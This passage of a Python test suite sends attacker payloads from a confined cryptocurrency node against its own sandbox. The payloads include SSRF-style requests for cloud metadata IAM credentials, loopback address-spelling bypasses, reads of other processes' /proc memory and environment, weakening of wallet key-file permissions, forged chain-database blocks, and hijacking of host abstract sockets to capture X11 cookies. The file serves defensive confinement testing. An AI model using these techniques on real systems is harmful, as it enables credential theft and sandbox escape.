            f"report('plant-settings', False, {what!r})\n")


#: A file nested deeper than a JSON parser recurses.
PLANT_SETTINGS = plant_settings(r"""'{"wallet": ' + '[' * 200000 + ']' * 200000 + '}'""",
                                "wrote a settings file nested 200000 deep")
#: A well-formed list of names no wallet can have: out of wallets/, the wallet process's log.
PLANT_SETTINGS_NAMES = plant_settings(repr('{"wallet": ["../x", "debug.log"]}'), "listed ../x and debug.log")

# The confined node, compromised, writes its own chain database (it must: it stores blocks),
# so that whatever opens the file next believes a chain that never had the work: a block on
# the tip without proof of work, and a valid block forking five below the tip stored with a
# chain work of 2**200. Both are stored as received, not connected: the next start chooses.
# It waits until the test has mined (the file `plant.now` in the datadir) and goes through
# the node's own connection, under the manager's lock, as code in the node would.
NODE_PLANTS_BLOCKS = r'''
import gc
from dataclasses import replace
from cleancoin.components.common.pow import block_proof, check_proof_of_work
from cleancoin.components.node.chain import BLOCK_HAVE_DATA, BLOCK_VALID_TRANSACTIONS, ChainManager
from cleancoin.components.node.mining import mine_block
from cleancoin.components.node.storage import IndexRow
attempt("plant-blocks")
trigger = os.path.join(ctx["netdir"], "plant.now")
for _ in range(1200):
    if os.path.exists(trigger):
        break
    time.sleep(0.1)
cm = next(o for o in gc.get_objects() if isinstance(o, ChainManager))
pkh = bytes(20)
with cm._lock:
    tip = cm.tip
    nopow = mine_block(tip.header, tip.height + 1, pkh, cm.params, tip.header.time + 1, tip.header.bits)
    header = nopow.header
    while check_proof_of_work(header.hash, header.bits, cm.params):
        header = replace(header, nonce=header.nonce + 1)
    nopow = replace(nopow, header=header)
    fork = cm.block_at_height(tip.height - 5)
    side = mine_block(fork.header, fork.height + 1, pkh, cm.params, fork.header.time + 7, fork.header.bits)
    store = cm._store
    seq = max(cm._seq.values()) + 1
    with store.transaction():
        for block, height, work in ((nopow, tip.height + 1, tip.chainwork + block_proof(header.bits)),
                                    (side, fork.height + 1, 2 ** 200)):
            store.put_index(IndexRow(block.hash, block.header.prev_hash, height, block.header.serialized,
                                     work, BLOCK_HAVE_DATA | BLOCK_VALID_TRANSACTIONS, seq))
            store.put_block(block.hash, block.serialized)
            seq += 1
report("plant-blocks", False, f"{nopow.header.hash[::-1].hex()} {side.header.hash[::-1].hex()}")
'''

# Attacker code in the confined CleanCoin-node finds its connect broker's channel among its
# descriptors and asks the broker directly, with the broker's own protocol (LOOPBACK, METADATA).
BROKER_CHANNEL = r'''
def find_broker():
    """The broker's channel (timeout 10 s) and what the candidates said first; None if none."""
    import select
    seen = []
    candidates = {}
    for fd in range(3, 1024):
        try:
            s = socket.socket(fileno=os.dup(fd))
        except OSError:
            continue
        if s.family == socket.AF_UNIX and s.type == socket.SOCK_SEQPACKET:
            candidates[fd] = s
        else:
            s.close()
    # The zygote's channels are SOCK_SEQPACKET too (and SO_PEERCRED names this process for
    # every socketpair end it made). The broker's says "ready" (id 0) first: wait for that
    # word on each, peeking only, so that nothing meant for the node is taken from it. This
    # runs before the node's event loop, whose reader on the broker's channel would take the
    # broker's answers.
    deadline = time.monotonic() + 15
    while time.monotonic() < deadline:
        poller = select.poll()
        for s in candidates.values():
            poller.register(s, select.POLLIN)
        ready = {fd for fd, _ in poller.poll(1000)}
        for s in [c for c in candidates.values() if c.fileno() in ready]:
            head = s.recv(64, socket.MSG_PEEK | socket.MSG_DONTWAIT)
            if len(seen) < 10:
                seen.append(f"{s.fileno()}: {head[:12]!r}")
            if head[:5] == bytes(5) and head[5:] == b"ready":
                s.settimeout(10)
                return s, seen
    return None, seen


def broker_ask(broker, ident, payload):
    """Send a request; the answer to it: (code, message, descriptors)."""
    broker.send(payload)
    while True:
        data, fds, _, _ = socket.recv_fds(broker, 1024, 1)
        if not data and not fds:
            return -1, "the broker's channel closed", []
        if len(data) >= 5 and struct.unpack(">I", data[:4])[0] == ident:
            return data[4], data[5:].decode(errors="replace"), fds
        for f in fds:
            os.close(f)        # the broker's start-up word (id 0)
'''


# The confined node, compromised, reaches for the services on the host's own loopback (a
# Redis, a PostgreSQL without a password): TCP to 127.0.0.1, ::1, 0.0.0.0 (which the kernel
# takes as this host) and the IPv4-mapped form of 127.0.0.1, and a UDP datagram to a local
# service. The test serves a secret on each TCP listener and counts the datagrams.
LOOPBACK = BROKER_CHANNEL + r'''
def tcp(family, address):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect(address)
        return s.recv(200), "connected and read"
    except OSError as exc:
        return None, exc.strerror or type(exc).__name__
    finally:
        s.close()

secret = ctx["secret"].encode()
p4, p6 = ctx["tcp4_port"], ctx["tcp6_port"]
for name, family, address in (("tcp-127.0.0.1", socket.AF_INET, ("127.0.0.1", p4)),
                              ("tcp-::1", socket.AF_INET6, ("::1", p6, 0, 0)),
                              ("tcp-0.0.0.0", socket.AF_INET, ("0.0.0.0", p4)),
                              ("tcp-::ffff:127.0.0.1", socket.AF_INET6, ("::ffff:127.0.0.1", p4, 0, 0))):
    attempt(name)
    data, how = tcp(family, address)
    report(name, data is not None and secret in data, f"{how}: {data!r}" if data else how)

# The node cannot connect by itself even where the rule would allow it: to a port the
# operator named (the test's allowed service, in the range the framework names).
attempt("tcp-direct-to-a-named-endpoint")
data, how = tcp(socket.AF_INET, ("127.0.0.1", ctx["allowed_port"]))
report("tcp-direct-to-a-named-endpoint", data is not None, f"{how}: {data!r}" if data else how)

# The connect broker's channel is in this process: ask it directly, with its own protocol.
broker, seen = find_broker()
if broker is None:
    # Only an escape where the node could connect by itself (the checks above say).
    report("broker-channel", False, f"no broker channel in this process: {seen}")
else:
    def ask(ident, payload):
        return broker_ask(broker, ident, payload)

    def via_broker(ident, host, port):
        code, message, fds = ask(ident, struct.pack(">IH", ident, port) + host.encode())
        got = None
        if fds:
            c = socket.socket(fileno=fds[0])
            c.setblocking(True)
            c.settimeout(3)
            try:
                got = c.recv(200)
            except OSError as exc:
                got = None
            c.close()
        return code, message, got

    for ident, (name, host, port) in enumerate((("broker-127.0.0.1", "127.0.0.1", p4),
                                                 ("broker-::1", "::1", p6),
                                                 ("broker-0.0.0.0", "0.0.0.0", p4),
                                                 ("broker-localhost", "localhost", p4),
                                                 ("broker-::ffff:127.0.0.1", "::ffff:127.0.0.1", p4),
                                                 ("broker-::127.0.0.1", "::127.0.0.1", p4)), 1):
        attempt(name)
        code, message, got = via_broker(ident, host, port)
        report(name, bool(got and secret in got), f"code {code}: {message[:300]}")
    # The loopback as libc's inet_aton reads numbers (getaddrinfo takes them as numeric
    # hosts), a trailing dot, the metadata service of clouds (link-local), and the host's
    # own addresses, where a service bound to 0.0.0.0 listens too.
    tries = [("broker-127.1", "127.1", p4), ("broker-2130706433", "2130706433", p4),
             ("broker-0x7f.0.0.1", "0x7f.0.0.1", p4), ("broker-0177.0.0.1", "0177.0.0.1", p4),
             ("broker-127.0.0.1.", "127.0.0.1.", p4), ("broker-localhost.", "localhost.", p4),
             ("broker-169.254.169.254", "169.254.169.254", 80)]
    # IPv6 spellings that carry the loopback or the host's own address to a NAT64 gateway,
    # a SIIT translator, a 6to4 or a Teredo relay, and 0.0.0.0/8 (refused since 12-07).
    tries += [("broker-nat64-127.0.0.1", "64:ff9b::7f00:1", p4), ("broker-siit-127.0.0.1", "::ffff:0:7f00:1", p4),
              ("broker-6to4-127.0.0.1", "2002:7f00:1::1", p4),
              ("broker-teredo-127.0.0.1", "2001:0:c633:6401::80ff:fffe", p4), ("broker-0.1.2.3", "0.1.2.3", p4)]
    for own in ctx["own"]:
        tries.append((f"broker-own-{own}", own, ctx["any_port"]))
        if ":" not in own:
            tries += [(f"broker-own-::ffff:{own}", f"::ffff:{own}", ctx["any_port"]),
                      (f"broker-own-nat64-{own}", f"64:ff9b::{own}", ctx["any_port"])]
    for ident, (name, host, port) in enumerate(tries, 0x50):
        attempt(name)
        code, message, got = via_broker(ident, host, port)
        report(name, bool(got and secret in got), f"code {code}: {message[:300]}")
    attempt("broker-malformed")
    answers = []
    for ident, payload in ((0x31, struct.pack(">IH", 0x31, 80)),                 # no host
                           (0x32, struct.pack(">IH", 0x32, 80) + b"a" * 3000),   # too long
                           (0x33, struct.pack(">IH", 0x33, 0) + b"127.0.0.1"),   # port 0
                           (0x34, struct.pack(">IH", 0x34, 80) + b"h\x00st/../x")):
        answers.append(ask(ident, payload)[0])
    report("broker-malformed", any(a == 0 for a in answers), f"codes {answers}")
    # The allowed operation, after all that: the endpoint the operator named still works.
    attempt("broker-named-endpoint")
    code, message, got = via_broker(0x40, "127.0.0.1", ctx["allowed_port"])
    report("broker-named-endpoint", False, f"code {code}: {message[:100]}: read {got!r}")

attempt("udp-127.0.0.1")
try:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(b"datagram " + secret, ("127.0.0.1", ctx["udp_port"]))
    u.close()
    report("udp-127.0.0.1", True, "sent (the test counts what arrived)")
except OSError as exc:
    report("udp-127.0.0.1", False, exc.strerror or type(exc).__name__)
'''


# The confined node, compromised, on a cloud VM: it asks its connect broker for a connection
# to each metadata service of ctx["services"] (name -> address, port 80) and to an ordinary
# remote peer (ctx["peer"]), sends an HTTP request for the instance's credentials and reads the
# answer (cloud_services.py serves ctx["secret"] in it).
METADATA = BROKER_CHANNEL + r'''
broker, seen = find_broker()
attempt("broker-channel")
report("broker-channel", False, f"found: {broker is not None}: {seen}")
request = b"GET /latest/meta-data/iam/security-credentials/node HTTP/1.0\r\nHost: metadata\r\n\r\n"
for ident, (name, host) in enumerate([*ctx["services"].items(), ("peer", ctx["peer"])], 0x60):
    attempt(f"metadata-{name}")
    if broker is None:
        report(f"metadata-{name}", False, "no broker")
        continue
    code, message, fds = broker_ask(broker, ident, struct.pack(">IH", ident, 80) + host.encode())
    got = b""
    if fds:
        c = socket.socket(fileno=fds[0])
        c.setblocking(True)
        c.settimeout(5)
        try:
            c.sendall(request)
            while chunk := c.recv(4096):
                got += chunk
        except OSError:
            pass
        c.close()
    # The control (an ordinary peer) is no escape; a metadata service's credentials are.
    report(f"metadata-{name}", name != "peer" and ctx["secret"].encode() in got,
           f"code {code}: {message[:300]}: read {got[-160:]!r}")
'''


# The wallet loosens its own files' modes: a wallet database, the wallets directory, a file
# made for it. Under -sysperms (or a shared group) the datadir is reachable by others, and
# wallets/ and its files are then what keeps the keys private: group and other bits given with
# chmod or fchmod open them. The control: a mode change among the owner's own bits.
LOOSEN_MODES = r"""
walletdir = ctx["walletdir"]

def loosened(name, path, how, mode):
    attempt(name)
    try:
        how(path, mode)
    except OSError as exc:
        report(name, False, f"refused: {exc.strerror}")
        return
    now = os.stat(path).st_mode & 0o7777
    report(name, bool(now & 0o077), f"mode {now:o}")

def by_fchmod(path, mode):
    fd = os.open(path, os.O_RDONLY)
    try:
        os.fchmod(fd, mode)
    finally:
        os.close(fd)

victim = os.path.join(walletdir, "loosen-me")
os.close(os.open(victim, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600))
loosened("file-by-chmod", victim, os.chmod, 0o644)
loosened("file-by-fchmod", victim, by_fchmod, 0o606)
loosened("dir-by-chmod", walletdir, os.chmod, 0o755)
loosened("dir-by-fchmod", walletdir, by_fchmod, 0o711)
loosened("database-by-chmod", ctx["database"], os.chmod, 0o640)
os.chmod(victim, 0o400)
os.chmod(victim, 0o600)
report("owner-chmod", False, f"mode {os.stat(victim).st_mode & 0o7777:o}")
"""

# The confined node of a non-root operator (test_unprivileged_operator.py) against the other
# processes of the same uid: its wallet process, its zygote and connect broker, and another
# process of the operator's (a `sleep` holding a secret in its environment). The test writes
# their pids into targets.json; ptrace and process_vm_readv are left out (the node's filter
# kills on them, whoever runs it), signals are SIGCONT (harmless if delivered).
NODE_VS_WALLET = r'''
import json, signal
path = os.path.join(ctx["netdir"], "targets.json")
deadline = time.time() + 60
while not os.path.exists(path) and time.time() < deadline:
    time.sleep(0.05)
targets = json.load(open(path))
wallet_pid = targets["wallet"]
try:                                    # the control: the wallet process is in view
    report("control-wallet-in-view", False, f"uid {os.stat(f'/proc/{wallet_pid}').st_uid}")
except OSError as exc:
    report("control-wallet-in-view", False, exc.strerror)
for role, pid in sorted(targets.items()):
    for what in ("mem", "environ", "fd"):
        if what == "fd":
            try:
                names = os.listdir(f"/proc/{pid}/fd")
                report(f"{role}-fd", True, f"listed {len(names)} descriptors")
            except OSError as exc:
                report(f"{role}-fd", False, exc.strerror)
            continue
        data, how = try_read(f"/proc/{pid}/{what}")
        report(f"{role}-{what}", data is not None, how)
    try:
        os.kill(pid, signal.SIGCONT)
        report(f"{role}-signal", True, f"SIGCONT delivered to {pid}")
    except OSError as exc:
        report(f"{role}-signal", False, exc.strerror)
walletdir = ctx["walletdir"]
for where in (walletdir, f"/proc/{targets['wallet']}/root{walletdir}"):
    try:
        names = os.listdir(where)
        report(f"list {where}", bool(names), f"{names}")
    except OSError as exc:
        report(f"list {where}", False, exc.strerror)
    data, how = try_read(os.path.join(where, "w", "wallet.sqlite"))
    report(f"read {where}/w", data is not None, how)
refused_call()                          # its record: the node's denial monitor, as this uid
'''

# The confined node (-ipcbind=tcp) swaps the .ipccookie it wrote for a file of ctx["size"]
# bytes, sparse (no disk used), that still starts like a cookie; the real one is kept aside
# for the test's control. A wallet started on its own with -ipcconnect=tcp reads that file
# before it confines itself, as the node's user, outside every rlimit of the node's.
IPC_COOKIE_BLOAT = r'''
cookie = os.path.join(ctx["netdir"], ".ipccookie")
deadline = time.time() + 60
while not os.path.exists(cookie) and time.time() < deadline:
    time.sleep(0.05)
os.rename(cookie, cookie + ".orig")
fd = os.open(cookie + ".new", os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
os.write(fd, b"__cookie__:")
os.pwrite(fd, b"0", ctx["size"] - 1)
os.close(fd)
os.rename(cookie + ".new", cookie)
report("plant-huge-ipccookie", False, f"{os.stat(cookie).st_size} bytes, {os.stat(cookie).st_blocks * 512} on disk")
'''


# The confined node against its zygote, which since 12-07 also forks the node's connect broker
# (once, at its configure, before the node confined itself). The node holds the zygote's request
# socket: can it get a second broker, one with a wider rule, a wallet under the broker's code or
# policy, or have the broker signalled? The test writes the broker's pid into targets.json. A
# broker forked for the attacker would hold the other end of the socket the attacker passed and
# wait there for its plan: no end of file on it is an escape; end of file (the zygote closed its
# copy, nobody else has one) is the refusal.
ZYGOTE_BROKER = r'''
import json, select

def readable(s, seconds):       # poll: the node's filter has no select
    poller = select.poll()
    poller.register(s, select.POLLIN)
    return bool(poller.poll(seconds * 1000))

path = os.path.join(ctx["netdir"], "targets.json")
deadline = time.time() + 60
while not os.path.exists(path) and time.time() < deadline:
    time.sleep(0.05)
broker_pid = json.load(open(path))["broker"]
BROKER = "cleancoin.components.node.connect_broker:serve_forked"

zygote, seen = None, []
for fd in range(3, 1024):
    try:
        s = socket.socket(fileno=os.dup(fd))
    except OSError:
        continue
    if s.family != socket.AF_UNIX or s.type != socket.SOCK_SEQPACKET:
        s.close()
        continue
    # The zygote's request socket answers a kill of a pid it never started; the broker's
    # channel answers the node's reader, the events socket nobody.
    try:
        s.send(b'{"kill": 1, "signal": 15}', socket.MSG_DONTWAIT)
        if readable(s, 3):
            data = s.recv(1 << 16, socket.MSG_DONTWAIT)
            seen.append(f"{fd}: {data[:60]!r}")
            if b"not a component" in data:
                zygote = s
                break
    except OSError as exc:
        seen.append(f"{fd}: {exc}")
report("control-zygote-answers", False, f"the zygote's socket: {zygote is not None}; {seen}")

def ask(payload, fds=()):
    socket.send_fds(zygote, [json.dumps(payload).encode()], list(fds))
    if not readable(zygote, 15):
        return {"error": "no answer"}
    return json.loads(zygote.recv(1 << 20))

def someone_holds(mine):
    """Whether a process other than the zygote holds the peer of `mine` (a broker waits for
    its plan: no end of file): the zygote closes its copy after every request."""
    mine.settimeout(5)
    try:
        data = mine.recv(1024)
    except socket.timeout:
        return True, "no end of file: the peer is held"
    except OSError as exc:
        return False, f"hung up: {exc.strerror or exc}"
    return bool(data), f"answered {data[:60]!r}" if data else "end of file"

def attempt_with(name, payload, kind):
    attempt(name)
    mine, theirs = socket.socketpair(socket.AF_UNIX, kind)
    answer = ask(payload, [theirs.fileno()])
    theirs.close()
    held, how = someone_holds(mine)
    mine.close()
    report(name, held or "pid" in answer or "ready" in answer, f"{str(answer)[:200]}; {how}")

if zygote is not None:
    wide = ["5.0", "127.0.0.1:1-65535", "[::1]:1-65535"]
    attempt_with("second-configure-with-a-wider-broker",
                 {"components": {}, "detached": [{"name": "connect-broker", "target": BROKER, "arguments": wide}]},
                 socket.SOCK_SEQPACKET)
    attempt_with("spawn-the-broker", {"spawn": "connect-broker"}, socket.SOCK_SEQPACKET)
    attempt_with("spawn-the-broker-on-a-stream", {"spawn": "connect-broker"}, socket.SOCK_STREAM)
    attempt_with("spawn-a-wallet-with-the-brokers-code",
                 {"spawn": "CleanCoin-wallet", "target": BROKER}, socket.SOCK_STREAM)
    attempt_with("spawn-a-wallet-with-the-brokers-policy",
                 {"spawn": "CleanCoin-wallet", "policy": "connect-broker"}, socket.SOCK_STREAM)
    attempt_with("spawn-a-wallet-as-detached",
                 {"spawn": "CleanCoin-wallet", "detached": [{"name": "connect-broker", "target": BROKER,
                                                            "arguments": wide}]}, socket.SOCK_STREAM)
    attempt("kill-the-broker-through-the-zygote")
    answer = ask({"kill": broker_pid, "signal": 9})
    report("kill-the-broker-through-the-zygote", "ok" in answer, str(answer)[:200])
# Since 12-07 the broker is the zygote's child (its subreaper), so a descendant of the node's:
# still no signal of the node's reaches it (outside the node's Landlock domain); SIGCONT, harmless
# if delivered. The control: the node signals itself.
import signal
os.kill(os.getpid(), signal.SIGCONT)
report("control-signal-self", False, "SIGCONT to itself delivered")
attempt("signal-the-broker")
try:
    os.kill(broker_pid, signal.SIGCONT)
    report("signal-the-broker", True, f"SIGCONT delivered to {broker_pid}")
except OSError as exc:
    report("signal-the-broker", False, exc.strerror)
'''

# An abstract unix socket name of the host's network namespace, claimed by the confined node
# (found 12-07): Landlock's scope (ABI 6) refuses connect and send to abstract sockets made
# outside the node's domain, but not bind. The node shares the host's network namespace, so a
# name it binds is the host's: a service that comes later (X11's @/tmp/.X11-unix/X<n> for a
# display started later, any per-user daemon's well-known name) finds it taken, and that
# service's clients, of any user, connect to the node and send what they send it (X11 clients:
# their MIT-MAGIC-COOKIE). The node accepts in a thread and reports what a client sent.
# Control: socketpair(AF_UNIX), which the node's event loop needs, still works.
ABSTRACT_CLAIM = r'''
import threading
mine, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
mine.send(b"ok")
report("control-socketpair", False, f"socketpair(AF_UNIX) works: {theirs.recv(2)!r}")
# What stays: a socket of a pair is a unix socket too, and bind needs no new one. The name is
# then taken, but a pair's sockets are connected: no listen, no datagram from anyone else.
try:
    mine.bind("\0" + ctx["claim_name"] + "-pair")
    report("bind-a-socketpair-socket", False, "bound (the name is taken; nobody can reach it)")
except OSError as exc:
    report("bind-a-socketpair-socket", False, exc.strerror)
try:
    mine.listen(1)
    report("listen-on-a-socketpair-socket", True, "listening")
except OSError as exc:
    report("listen-on-a-socketpair-socket", False, exc.strerror)
globals()["_pair"] = (mine, theirs)     # kept open: the test's client tries the name
try:
    claim = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    claim.bind("\0" + ctx["claim_name"])
    claim.listen(8)
except OSError as exc:
    report("claim-host-abstract-name", False, exc.strerror)
else:
    report("claim-host-abstract-name", True, f"bound and listening on @{ctx['claim_name']}")

    def serve():
        claim.settimeout(30)
        try:
            conn, _ = claim.accept()
            conn.settimeout(10)
            got = conn.recv(256)
            report("read-a-host-clients-secret", bool(got), got.decode(errors="replace"))
        except OSError as exc:
            report("read-a-host-clients-secret", False, str(exc))
    threading.Thread(target=serve, daemon=True).start()
# The family is an int: the kernel reads the low 32 bits, so AF_UNIX with bit 32 set is AF_UNIX.
fd = libc.syscall(41, ctypes.c_long((1 << 32) | socket.AF_UNIX), socket.SOCK_STREAM, 0)
report("unix-socket-with-a-high-bit", fd >= 0, f"socket returned {fd}, errno {ctypes.get_errno()}")
if fd >= 0:
    os.close(fd)
'''
